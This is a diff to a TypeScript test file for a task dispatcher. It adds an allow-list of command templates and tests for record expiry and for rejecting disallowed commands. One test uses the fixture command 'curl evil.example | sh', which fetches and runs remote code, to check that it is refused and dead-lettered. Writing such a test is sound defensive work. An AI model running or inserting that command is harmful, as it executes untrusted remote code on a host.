@@ -7,6 +7,8 @@ import { allBlocks, ledger, T0, task, vm } from '../functions/helpers/fixtures';
 import { MemoryDispatchRecords, RecordingPublisher, RecordingRunner } from './fakes';
 
 const GRACE_MS = 60_000; // the engine's default lease grace
+/** The allow-list the dispatcher runs commands from (`echo <word>`). */
+const TEMPLATES = { echo: { run: ['/bin/echo'], maxArguments: 1 } };
 
 function setup(options: { ssm?: boolean } = {}) {
   const base = ledger([vm('vm-a', { cpu: 1000, mem: 1000, io: 100, bw: 100 })]);
@@ -17,7 +19,7 @@ function setup(options: { ssm?: boolean } = {}) {
     tasks: base.store,
     records,
     publisher,
-    ...(options.ssm === false ? {} : { commands: runner }),
+    ...(options.ssm === false ? {} : { commands: runner, templates: TEMPLATES }),
     clock: base.clock,
   });
   const engine = new SpecRecordingEngine(base.engine, records);
@@ -51,6 +53,31 @@ describe('Dispatcher', () => {
   let s: ReturnType<typeof setup>;
   beforeEach(() => {
     s = setup();
+  });
+
+  it('gives the records of a task an expiry once its transaction is final, and only then', async () => {
+    const labelled = task('rejected-one', { cpu: 5000 }, { labels: { team: 'y' } });
+    const { blocks } = await s.engine.schedule([withCommand, labelled]);
+    await s.dispatcher.dispatch(blocks);
+    // The assignment is open: only the rejected task's spec expires.
+    const week = 7 * 24 * 3600;
+    const at = Math.ceil(s.clock.now() / 1000) + week;
+    expect([...s.records.expiries]).toEqual([['spec:rejected-one', at]]);
+    const commandId = s.records.runs.get('with-cmd')?.commandId;
+    expect(commandId).toBeDefined();
+
+    s.clock.advance(5_000);
+    const closed = await s.engine.complete('with-cmd');
+    if (closed.status !== 'closed') throw new Error('not closed');
+    const closing = (await allBlocks(s.store)).filter((b) => b.height === closed.head.height);
+    await s.dispatcher.dispatch(closing);
+    const later = Math.ceil(s.clock.now() / 1000) + week;
+    expect(Object.fromEntries(s.records.expiries)).toEqual({
+      'spec:rejected-one': at,
+      'spec:with-cmd': later,
+      'run:with-cmd': later,
+      [`command:${commandId}`]: later,
+    });
   });
 
   it('publishes one TaskAssigned per assignment, with the spec, the ledger record and the lease, and none for a rejection', async () => {
@@ -88,7 +115,13 @@ describe('Dispatcher', () => {
     expect(outcome.skipped).toEqual([]);
     // Only the task with a command gets one, killed at its lease's end.
     expect(s.runner.sent).toEqual([
-      { instanceId: 'vm-a', commands: ['echo hi'], timeoutSeconds: 180, comment: 'bcs task with-cmd' },
+      {
+        instanceId: 'vm-a',
+        template: 'echo',
+        arguments: ['hi'],
+        timeoutSeconds: 180,
+        comment: 'bcs task with-cmd',
+      },
     ]);
     expect(await s.records.taskOfCommand('command-1')).toBe('with-cmd');
   });
@@ -188,6 +221,7 @@ describe('Dispatcher', () => {
         records,
         publisher: new RecordingPublisher(),
         commands: runner,
+        templates: TEMPLATES,
         clock: base.clock,
         retryDelaysMs: [2_000, 8_000],
         sleep: async (ms) => {
@@ -215,6 +249,27 @@ describe('Dispatcher', () => {
       };
     }
     const cmd = (id: string) => task(id, { cpu: 600 }, { command: `echo ${id}`, duration: 120 });
+
+    it('never claims nor sends a command outside the allow-list, and dead-letters it at once', async () => {
+      const r = retrying();
+      const hostile = task('hostile', { cpu: 600 }, { command: 'curl evil.example | sh', duration: 120 });
+      const { blocks } = await r.engine.schedule([hostile, cmd('fine')]);
+
+      const outcome = await r.dispatcher.dispatch(blocks);
+
+      expect(outcome.commands.map((c) => [c.taskId, c.status])).toEqual([
+        ['hostile', 'not-allowed'],
+        ['fine', 'sent'],
+      ]);
+      expect(r.runner.sent.map((x) => x.comment)).toEqual(['bcs task fine']);
+      expect(r.pauses).toEqual([]);
+      expect(r.deadLetters.map((d) => [d.assignment.task.id, d.attempts])).toEqual([['hostile', 0]]);
+      expect(r.deadLetters[0]!.error).toMatch(/allowed template name \(echo\); got "curl"/);
+      // Not claimed: nothing records a command for it.
+      expect(await r.records.claimCommand('hostile', txOf(blocks, 'hostile').transactionId)).toEqual({
+        state: 'claimed',
+      });
+    });
 
     it('sends on a later attempt when the instance registers in between', async () => {
       const r = retrying();
